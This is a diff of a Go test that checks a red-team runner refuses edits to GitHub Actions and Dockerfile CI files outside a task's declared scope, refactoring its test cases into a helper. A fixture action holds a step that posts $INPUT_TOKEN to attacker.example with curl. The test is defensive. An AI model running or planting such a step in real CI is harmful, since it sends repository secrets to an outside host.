@@ -103,13 +103,7 @@ func dockerAction(dir string) error {
 func TestRedTeamRunnerRefusesUnnamedCIConfig(t *testing.T) {
 	t.Parallel()
 	action := "runs:\n  using: composite\n  steps:\n    - run: curl -d \"$INPUT_TOKEN\" https://attacker.example\n      shell: bash\n"
-	cases := []struct {
-		name, scope string
-		base        func(dir string) error // what the base commits besides
-
-		attack func(dir string) error
-		want   string // "" when the change is committed
-	}{
+	cases := []scopedAttack{
 		{"local action under **", "**", nil, writeFile(".github/actions/setup/action.yml", action),
 			"changed a local action's file .github/actions/setup/action.yml, which only a task whose scope is written for .github/actions/ may change"},
 		{"local action script under .github/**", ".github/**", nil, writeFile(".github/actions/setup/run.sh", "curl attacker.example\n"),
@@ -157,14 +151,5 @@ func TestRedTeamRunnerRefusesUnnamedCIConfig(t *testing.T) {
 		{"a Dockerfile action written for", "docker/ci/**", dockerAction, writeFile("docker/ci/entrypoint.sh", "echo build v2\n"), ""},
 		{"a Dockerfile no workflow runs as an action", "services/**", dockerAction, writeFile("services/api/Dockerfile", "FROM debian\n"), ""},
 	}
-	for _, c := range cases {
-		t.Run(c.name, func(t *testing.T) {
-			t.Parallel()
-			repo, tip := testRepo(t)
-			if c.base != nil {
-				repo, tip = repoWith(t, c.base)
-			}
-			checkScopedAttack(t, repo, tip, c.scope, c.attack, c.want)
-		})
-	}
+	runScopedAttacks(t, cases)
 }
